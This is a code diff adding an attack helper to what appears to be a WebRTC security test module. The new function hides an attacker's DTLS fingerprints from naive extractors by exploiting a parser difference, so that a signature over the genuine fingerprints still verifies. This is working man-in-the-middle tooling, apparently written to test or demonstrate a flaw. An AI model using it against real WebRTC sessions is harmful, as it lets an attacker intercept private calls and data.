@@ -104,3 +104,18 @@ def swap_fingerprint(sdp: str) -> str:
     would, to terminate DTLS itself)."""
     attacker = ":".join(["AB"] * 32)
     return FINGERPRINT.sub(lambda m: m.group(1) + attacker, sdp)
+
+
+def hide_fingerprints(attacker_sdp: str, genuine_fingerprints: list[str]) -> str:
+    """The attacker's own SDP, its fingerprints written in a form only a lenient parser
+    reads (two spaces), the genuine ones appended in a rejected media section that the
+    WebRTC stack ignores but a naive fingerprint extractor finds. A signature over the
+    extracted fingerprints would still verify; one over the SDP text does not."""
+    body = re.sub(r"(a=fingerprint:\S+ )([0-9A-Fa-f:]+)", r"\1 \2", attacker_sdp)
+    body = re.sub(r"a=group:BUNDLE ([^\r]*)", r"a=group:BUNDLE \1 x", body)
+    ufrag = re.search(r"a=ice-ufrag:\S+\r\n", attacker_sdp)
+    pwd = re.search(r"a=ice-pwd:\S+\r\n", attacker_sdp)
+    assert ufrag and pwd
+    trailer = "m=application 0 UDP/DTLS/SCTP webrtc-datachannel\r\nc=IN IP4 0.0.0.0\r\na=mid:x\r\n"
+    return (body + trailer + ufrag.group(0) + pwd.group(0) + "a=setup:actpass\r\n"
+            + "".join(f"a=fingerprint:{p}\r\n" for p in genuine_fingerprints))
